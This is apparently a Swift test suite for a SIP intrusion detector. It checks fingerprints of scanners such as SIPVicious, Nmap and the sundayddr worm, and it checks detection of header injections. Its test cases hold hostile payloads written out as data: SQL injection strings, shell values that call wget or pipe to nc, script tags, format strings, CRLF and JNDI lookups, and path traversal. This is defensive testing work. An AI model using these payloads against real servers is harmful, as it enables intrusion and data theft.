import Testing

@testable import SIP

private func head(_ lines: [String]) throws -> MessageHead {
  try #require(MessageHead.parse(Array((lines + ["", ""]).joined(separator: "\r\n").utf8)))
}

/// A request whose headers of some names are replaced.
private func message(_ start: String = "OPTIONS sip:100@192.0.2.5 SIP/2.0", _ own: String...)
  throws -> MessageHead
{
  let names = Set(own.map { $0.prefix { $0 != ":" } })
  return try head([start] + complete.filter { !names.contains($0.prefix { $0 != ":" }) } + own)
}

private func marks(_ head: MessageHead) -> [String] {
  Fingerprint.matches(in: head).map(\.fingerprint.id)
}

@Suite("A fingerprint")
struct FingerprintTests {
  @Test("is found of each User-Agent in the table, whatever its case and version")
  func agents() throws {
    for entry in Fingerprint.table {
      guard case .agentBegins(let name) = entry.trait else { continue }
      for text in [name, name.uppercased() + "/1.2", name.lowercased()] {
        #expect(
          marks(try message("INVITE sip:1@h SIP/2.0", "User-Agent: \(text)")).contains(entry.id))
      }
    }
  }

  @Test("has a name of its own, and says where it is from")
  func table() {
    #expect(Set(Fingerprint.table.map(\.id)).count == Fingerprint.table.count)
    #expect(Fingerprint.table.allSatisfy { !$0.sources.isEmpty && !$0.tool.isEmpty })
    #expect(
      Fingerprint.table.allSatisfy { $0.id.allSatisfy { $0.isLetter || $0.isNumber || $0 == "-" } })
  }

  @Test("of svmap is found in its own message, and its tag names the target")
  func svmap() throws {
    // As makeRequest of SIPVicious 0.3.3 writes it, for 192.0.2.5:5060.
    let text = try head([
      "OPTIONS sip:100@192.0.2.5 SIP/2.0",
      "Via: SIP/2.0/UDP 203.0.113.66:5060;branch=z9hG4bK-2436893276;rport", "Max-Forwards: 70",
      "To: \"sipvicious\"<sip:100@1.1.1.1>",
      "From: \"sipvicious\"<sip:100@1.1.1.1>;tag=633030303032303531336334013436313233",
      "User-Agent: friendly-scanner", "Call-ID: 1040233293741297362424563",
      "Contact: sip:100@203.0.113.66:5060", "CSeq: 1 OPTIONS", "Accept: application/sdp",
      "Content-Length: 0",
    ])
    #expect(
      marks(text) == [
        "sipvicious-agent", "sipvicious-name", "sipvicious-from", "sipvicious-tag",
        "sipvicious-numbers",
      ])
    let tag = Fingerprint.matches(in: text).first { $0.fingerprint.id == "sipvicious-tag" }
    #expect(tag?.text == "made for 192.0.2.5:5060")
  }

  @Test("is found when the tool hides its name")
  func hidden() throws {
    // The tag of rtcsec.com's report: extension 311.
    let war = try message(
      "REGISTER sip:192.0.2.5 SIP/2.0", "User-Agent: Zoiper",
      "From: \"311\"<sip:311@192.0.2.5>; tag=3331310133333331373232343735")
    #expect(marks(war) == ["sipvicious-tag"])
    #expect(Fingerprint.matches(in: war).first?.text == "made for 311")
    // The botnet of the same report.
    let spoof = try message(
      "REGISTER sip:311@192.0.2.5 SIP/2.0", "User-Agent: Asterisk PBX",
      "Via: SIP/2.0/UDP 192.0.2.66:5060;branch=88y8n2p4U3;rport", "From: \"311\"<sip:311@h>")
    #expect(marks(spoof) == ["asterisk-spoof"])
    let crack = try message(
      "REGISTER sip:h SIP/2.0", "From: \"1\" <sip:1@h>;tag=3206210844")
    #expect(marks(crack) == ["svcrack-tag"])
  }

  @Test("of the sundayddr worm, of Nmap and of SIPp is found in their messages")
  func others() throws {
    let worm = try message(
      "OPTIONS sip:100@192.0.2.5 SIP/2.0", "From: \"sipsscuser\"<sip:100@192.168.1.9>; tag=1",
      "To: \"sipssc\"<sip:100@192.168.1.9>", "User-Agent: sundayddr")
    #expect(marks(worm) == ["sundayddr-agent", "sundayddr-name", "sundayddr-to"])
    let nmap = try head([
      "OPTIONS sip:nm SIP/2.0", "Via: SIP/2.0/TCP nm;branch=foo", "From: <sip:nm@nm>;tag=root",
      "To: <sip:nm2@nm2>", "Call-ID: 50000", "CSeq: 42 OPTIONS", "Max-Forwards: 70",
      "Content-Length: 0", "Contact: <sip:nm@nm>", "Accept: application/sdp",
    ])
    #expect(marks(nmap) == ["nmap-probe"])
    let sipp = try message(
      "INVITE sip:service@192.0.2.5:5060 SIP/2.0", "Subject: Performance Test",
      "From: sipp <sip:sipp@203.0.113.66:5060>;tag=4711SIPpTag001")
    #expect(marks(sipp) == ["sipp-tag", "sipp-subject"])
  }

  @Test("is not found in a telephone's, a carrier's or Asterisk's own message")
  func innocent() throws {
    let agents = [
      "Asterisk PBX 20.5.0", "FPBX-16.0.33(18.13.0)", "Yealink SIP-T46U 108.86.0.45",
      "snomD785/10.1.169.13", "Grandstream GXP2170 1.0.11.48", "kamailio (5.6.3 (x86_64/linux))",
      "Cisco-CP8841/12.5.1", "Zoiper rv2.10.19", "LinphoneAndroid/5.2.2",
    ]
    for agent in agents {
      let text = try message(
        "REGISTER sip:192.0.2.5 SIP/2.0", "User-Agent: \(agent)",
        "Via: SIP/2.0/UDP 203.0.113.66:5060;branch=z9hG4bK1a2b3c4d;rport",
        "From: \"100\" <sip:100@192.0.2.5>;tag=as3c4d5e6f")
      #expect(marks(text) == [], "\(agent)")
    }
    // Asterisk's own tag and branch with its default name.
    let asterisk = try message("OPTIONS sip:h SIP/2.0", "User-Agent: Asterisk PBX")
    #expect(marks(asterisk) == [])
  }
}

@Suite("An injection attempt")
struct InjectionTests {
  @Test(
    "is found, with its kind and header",
    arguments: [
      ("From: <sip:'or'x'='x@h>;tag=1", .sql), ("From: \"x\" <sip:' OR 1=1 --@h>;tag=1", .sql),
      ("From: <sip:%27%20or%20%271%27=%271@h>;tag=1", .sql),
      ("From: <sip:'/**/or/**/1=1@h>;tag=1", .sql), ("To: <sip:100'--@h>", .sql),
      ("Contact: <sip:a'; DROP TABLE sip@h>", .sql), ("Subject: 1 UNION  SELECT a", .sql),
      ("User-Agent: x'+OR+'1'='1", .sql),
      ("Authorization: Digest username=\"\" or \"\"=\"\"", .sql),
      ("From: \"$(id)\" <sip:a@h>;tag=1", .shell), ("From: \"`uname -a`\" <sip:a@h>;tag=1", .shell),
      ("User-Agent: x; wget http://h/a", .shell), ("Call-ID: a|nc 203.0.113.66 4444", .shell),
      ("From: \"<script>alert(1)</script>\" <sip:a@h>;tag=1", .script),
      ("User-Agent: <IMG SRC=x onerror=alert(1)>", .script),
      ("To: <sip:%3Cscript%3E@h>", .script), ("Subject: %n%n%n%n", .format),
      ("From: \"%s%s%08x\" <sip:a@h>;tag=1", .format),
      ("To: <sip:a%0d%0aX-Own:%201@h>", .lineBreak),
      ("User-Agent: ${jndi:ldap://h/a}", .lookup), ("Contact: <sip:../../../etc/passwd@h>", .path),
    ] as [(String, Injection.Kind)])
  func found(line: String, kind: Injection.Kind) throws {
    let found = Injection.attempts(in: try message("INVITE sip:1@h SIP/2.0", line))
    #expect(found.map(\.kind).contains(kind), "\(found)")
    #expect(found.allSatisfy { line.hasPrefix($0.place + ":") })
  }

  @Test("is found in the Request-URI")
  func start() throws {
    let found = Injection.attempts(in: try message("INVITE sip:'or'x'='x@192.0.2.5 SIP/2.0"))
    #expect(found.map(\.place) == ["Request-URI"])
    #expect(found.map(\.kind) == [.sql])
  }

  @Test(
    "is not seen in what people write",
    arguments: [
      "From: \"O'Brien\" <sip:obrien@h>;tag=1", "From: \"And Co\" <sip:and@h>;tag=1",
      "From: \"Or Levi\" <sip:or@h>;tag=a=b", "Accept: application/*, */*, text/plain",
      "Allow: INVITE, ACK, CANCEL, OPTIONS, BYE",
      "Contact: <sip:100@203.0.113.66:5060;ob>;+sip.instance=\"<urn:uuid:0-1>\";expires=300",
      "Authorization: Digest username=\"and\", realm=\"or\", nonce=\"a/b+c==\", algorithm=MD5",
      "User-Agent: Acme; cat 5 phone (R&D)", "Subject: 100% sure, 50%off",
      "Call-ID: a84b4c76e66710@pc33;id=5", "To: <sip:%2B4930123@h>", "Warning: 399 h \"it's or\"",
    ])
  func innocent(line: String) throws {
    let found = Injection.attempts(in: try message("INVITE sip:1@h SIP/2.0", line))
    // A separator, a blank and a command's name with an argument is what a command looks like.
    if line.hasPrefix("User-Agent: Acme") {
      #expect(found.map(\.kind) == [.shell])
    } else {
      #expect(found == [])
    }
  }
}
